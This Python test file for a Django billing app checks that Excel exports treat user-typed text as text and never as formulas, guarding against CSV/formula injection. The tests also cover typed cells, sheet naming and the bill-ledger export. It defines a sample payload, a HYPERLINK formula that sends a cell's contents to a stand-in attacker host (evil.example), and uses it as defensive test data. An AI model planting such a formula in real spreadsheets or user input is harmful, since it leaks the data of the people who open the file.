"""Excel exports never turn text someone typed into a formula (CSV/Excel injection)."""

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from billing.services import LineSpec, bill_create, payment_record
from jinyuan import lists
from jinyuan.lists import SUM, xlsx_response, xlsx_sheets_response
from tenants.models import Signboard
from tests import factories

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def cells(response):
    return [c for row in load_workbook(BytesIO(response.content)).active.iter_rows() for c in row]


def test_plain_values_keep_their_types():
    response = xlsx_response("t", [("A", lambda v: v)], ["文本", 42, "-3", "+86 771"])
    assert [(c.value, c.data_type) for c in cells(response)] == [
        ("A", "s"),
        ("文本", "s"),
        (42, "n"),
        ("-3", "s"),
        ("+86 771", "s"),
    ]


def test_text_starting_with_equals_is_written_as_text():
    response = xlsx_response("t", [("A", lambda v: v)], ["=1+1", EVIL])
    assert [c.data_type for c in cells(response)] == ["s", "s", "s"]


@pytest.mark.django_db
def test_signboard_text_from_the_portal_is_not_a_formula_in_the_desk_export(client_for, tenant_a_admin, desk, building):
    response = client_for(tenant_a_admin).post(
        reverse("portal:tenants:signboard_new"), {"building": building.pk, "position": "lobby", "text": EVIL[:60]}
    )
    assert response.status_code == 302
    assert Signboard.objects.filter(text=EVIL[:60]).exists()
    export = client_for(desk).get(reverse("desk:tenants:signboard_list"), {"export": "xlsx"})
    assert export.status_code == 200
    assert [c.coordinate for c in cells(export) if c.data_type == "f"] == []


# --- formula injection (OWASP): string cells, quote prefix, value as typed ------------------------

FORMULA_LIKE = ["=1+1", "+86 771 5555", "-3", "@SUM(A1)", "\tindented", EVIL]


def test_text_a_spreadsheet_would_read_as_a_formula_gets_the_quote_prefix():
    response = xlsx_response("t", [("A", lambda v: v)], FORMULA_LIKE)
    body = cells(response)[1:]
    assert [c.value for c in body] == FORMULA_LIKE
    assert [c.data_type for c in body] == ["s"] * len(FORMULA_LIKE)
    assert [c.quotePrefix for c in body] == [True] * len(FORMULA_LIKE)


def test_a_carriage_return_first_also_gets_the_quote_prefix():
    (cell,) = cells(xlsx_response("t", [("A", lambda v: v)], ["\rx"]))[1:]
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_ordinary_text_has_no_quote_prefix():
    body = cells(xlsx_response("t", [("A", lambda v: v)], ["金源", "A-2101", "a=b"]))[1:]
    assert [c.quotePrefix for c in body] == [False, False, False]
    assert [c.data_type for c in body] == ["s", "s", "s"]


# --- typed cells, frozen header, autofilter, names -----------------------------------------------


def test_dates_money_and_times_are_typed_with_a_format(settings):
    row = {"d": date(2026, 3, 9), "m": Decimal("1234.50"), "t": datetime(2026, 3, 9, 1, 30, tzinfo=UTC)}
    columns = [("D", lambda r: r["d"]), ("M", lambda r: r["m"]), ("T", lambda r: r["t"])]
    d, m, t = cells(xlsx_response("t", columns, [row]))[3:]
    assert d.is_date and d.value.date() == date(2026, 3, 9) and d.number_format == "yyyy-mm-dd"
    assert m.data_type == "n" and m.value == Decimal("1234.5") and m.number_format == "#,##0.00"
    # Local wall-clock time (Asia/Shanghai), as the clerk sees it on screen.
    assert t.is_date and t.value == datetime(2026, 3, 9, 9, 30) and t.number_format == "yyyy-mm-dd hh:mm"


def test_header_is_frozen_and_filtered_and_the_sheet_is_named_after_the_register():
    with translation.override("zh-hans"):
        response = xlsx_response(gettext_lazy("Tenant register"), [("A", str), ("B", str)], ["x", "y", "z"])
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B4"
    assert sheet.title == "业户台账"
    assert sheet["A1"].font.b


def test_file_is_named_in_chinese_with_an_ascii_fallback():
    with translation.override("zh-hans"):
        disposition = xlsx_response(gettext_lazy("Tenant register"), [("A", str)], [])["Content-Disposition"]
    assert disposition.startswith('attachment; filename="tenant-register-')
    assert "filename*=UTF-8''%E4%B8%9A%E6%88%B7%E5%8F%B0%E8%B4%A6-" in disposition  # 业户台账
    assert disposition.endswith(".xlsx")
    assert disposition.isascii()


def test_a_sheet_name_excel_refuses_is_cleaned():
    sheet = load_workbook(BytesIO(xlsx_response("a/b:c" + "x" * 40, [("A", str)], []).content)).active
    assert sheet.title == ("a b c" + "x" * 40)[:31]


# --- the writer's edges: gaps, blanks, characters XML refuses, long text, several sheets ----------


def test_empty_cells_keep_the_columns_of_the_cells_after_them():
    (row,) = load_workbook(
        BytesIO(
            xlsx_response(
                "t", [(c, lambda r, c=c: r[c]) for c in "ABCD"], [{"A": None, "B": "x", "C": "", "D": 3}]
            ).content
        )
    ).active.iter_rows(min_row=2, values_only=True)
    assert row == (None, "x", None, 3)


def test_text_keeps_its_blanks_and_markup_characters_and_loses_what_xml_refuses():
    values = ["  两边有空格 ", 'A&B <c> "d"', "bad\x00con\x1ftrol", True, "x" * 40_000]
    body = cells(xlsx_response("t", [("A", lambda v: v)], values))[1:]
    assert [c.value for c in body[:4]] == ["  两边有空格 ", 'A&B <c> "d"', "badcontrol", True]
    assert body[3].data_type == "b"
    assert len(body[4].value) == 32_767  # what an Excel cell holds


def test_the_autofilter_leaves_the_totals_row_out():
    columns = [("A", lambda v: "x"), ("B", lambda v: v, SUM)]
    sheet = load_workbook(BytesIO(xlsx_response("t", columns, [Decimal(1), Decimal(2), Decimal(3)]).content)).active
    assert sheet.auto_filter.ref == "A1:B4"
    assert [c.value for c in sheet[5]][1] == 6
    assert sheet["B5"].font.b and sheet["B5"].number_format == "#,##0.00"


def test_sheets_of_one_name_get_names_of_their_own():
    response = xlsx_sheets_response("t", [("表", [("A", str)], ["x"]), ("表", [("A", str)], ["y"])])
    book = load_workbook(BytesIO(response.content))
    assert len(set(book.sheetnames)) == 2
    assert [book.worksheets[i]["A2"].value for i in (0, 1)] == ["x", "y"]


def test_a_large_export_is_streamed_from_a_temporary_file(monkeypatch):
    monkeypatch.setattr(lists, "EXPORT_IN_MEMORY", 1024)
    rows = [f"第{i}行" for i in range(5000)]
    response = xlsx_response("t", [("A", lambda v: v)], rows)
    assert response.streaming
    body = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(body) > 1024
    assert response["Content-Disposition"].startswith('attachment; filename="t-')
    sheet = load_workbook(BytesIO(body)).active
    assert [c.value for c in sheet["A"]][1:] == rows


# --- the bill ledger: every column in one statement, a fixed number of queries ------------------


LEDGER_HEADER = (
    *("Number", "Payer", "Units", "Title", "Period from", "Period until", "Issued on", "Due date"),
    *("Total", "Paid", "Outstanding", "Status", "Late fee billed", "Payer kind"),
)


def _bill_with_unit(tenant, desk, unit, amount):
    item = factories.paid_service_item()
    return bill_create(
        tenant=tenant, title="有偿服务", by=desk, lines=[LineSpec(item, "维修", Decimal(1), Decimal(amount), unit=unit)]
    )


def _export_rows(client, **query):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(reverse("desk:billing:bill_list"), {"export": "xlsx", **query})
    assert response.status_code == 200
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
    return rows, len(captured)


def _column(name):
    return LEDGER_HEADER.index(name)


@pytest.mark.django_db
def test_bill_ledger_has_the_units_and_a_totals_row_in_fixed_queries(client_for, finance, desk, tenant_a, unit_a):
    client = client_for(finance)
    first = _bill_with_unit(tenant_a, desk, unit_a, "100.00")
    payment_record(tenant=tenant_a, amount=Decimal("30.00"), method="cash", by=desk, bills=[first])
    client.get(reverse("desk:billing:bill_list"), {"export": "xlsx"})  # warm up
    rows, one = _export_rows(client)
    with translation.override("zh-hans"):
        assert rows[0] == tuple(str(gettext_lazy(name)) for name in LEDGER_HEADER)
    assert rows[1][_column("Units")] == unit_a.number
    assert rows[1][_column("Status")] == "部分已付"
    assert rows[-1][0] == "合计"
    total, paid, outstanding = (_column(n) for n in ("Total", "Paid", "Outstanding"))
    assert (rows[-1][total], rows[-1][paid], rows[-1][outstanding]) == (100, 30, 70)
    for amount in range(1, 30):
        _bill_with_unit(tenant_a, desk, unit_a, f"{amount}.00")
    rows, thirty = _export_rows(client)
    assert len(rows) == 1 + 30 + 1
    assert (rows[-1][total], rows[-1][paid], rows[-1][outstanding]) == (100 + 435, 30, 70 + 435)
    assert one == thirty


@pytest.mark.django_db
def test_bill_ledger_shows_periods_the_late_fee_billed_and_nothing_outstanding_on_a_void_bill(
    client_for, finance, desk, tenant_a, unit_a
):
    from datetime import timedelta

    from django.utils import timezone

    from billing.latefee_services import late_fees_bill
    from billing.models import Bill, LateFeeCharge
    from billing.services import bill_void
    from tests.billing.helpers import ensure_price_list
    from tests.billing.late_fee_helpers import agree, overdue_bill

    ensure_price_list()
    agree(tenant_a)
    today = timezone.localdate()
    late = overdue_bill(tenant_a, desk, "1000.00", today.replace(day=1) - timedelta(days=40))
    Bill.objects.filter(pk=late.pk).update(period_start=date(2026, 1, 1), period_end=date(2026, 1, 31))
    late_fee_bill = late_fees_bill(tenant=tenant_a, by=desk)
    void = bill_void(bill=_bill_with_unit(tenant_a, desk, unit_a, "50.00"), by=desk, reason="开错了")
    billed = sum(c.amount for c in LateFeeCharge.objects.filter(source_bill=late))
    assert billed > 0

    rows, _queries = _export_rows(client_for(finance))
    by_number = {row[0]: row for row in rows[1:-1]}
    row = by_number[late.number]
    assert (row[_column("Period from")].date(), row[_column("Period until")].date()) == (
        date(2026, 1, 1),
        date(2026, 1, 31),
    )
    assert Decimal(str(row[_column("Late fee billed")])) == billed
    assert by_number[late_fee_bill.number][_column("Late fee billed")] is None
    assert by_number[void.number][_column("Outstanding")] == 0
    assert Decimal(str(rows[-1][_column("Late fee billed")])) == billed
